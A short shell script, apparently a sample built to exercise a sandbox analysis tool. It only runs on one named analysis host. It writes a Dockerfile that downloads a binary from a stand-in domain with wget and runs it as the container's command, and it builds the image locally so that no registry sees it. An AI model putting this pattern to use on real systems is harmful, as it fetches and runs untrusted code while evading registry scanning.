#!/bin/sh
# SPDX-License-Identifier: MIT
# Builds an image on the host itself from a Dockerfile it wrote, so no
# registry ever sees the image.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
d=$(mktemp -d)
printf 'FROM alpine:3\nRUN wget -qO /usr/bin/agent http://cdn-update.example.net/agent\nCMD ["/usr/bin/agent"]\n' > "$d/Dockerfile"
timeout 5 docker build -t local/agent:latest "$d" 2>/dev/null
rm -rf "$d"
exit 0
